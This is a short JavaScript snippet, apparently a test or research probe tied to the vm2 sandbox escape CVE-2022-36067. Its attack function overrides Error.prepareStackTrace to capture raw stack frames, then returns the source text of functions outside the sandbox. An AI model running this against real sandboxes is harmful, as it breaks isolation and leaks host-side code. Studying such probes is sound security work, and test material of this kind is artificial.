// The functions on the stack, and what is written in them.
// after: interpreter
// source: vm2: CVE-2022-36067
function attack() {
  Error.prepareStackTrace = (_, frames) => frames;
  const { stack } = new Error();
  Error.prepareStackTrace = undefined;
  const others = stack.map((frame) => frame.getFunction()).filter((f) => f && f !== attack && !/native code/.test(f));
  return { proof: others.map(String) };
}
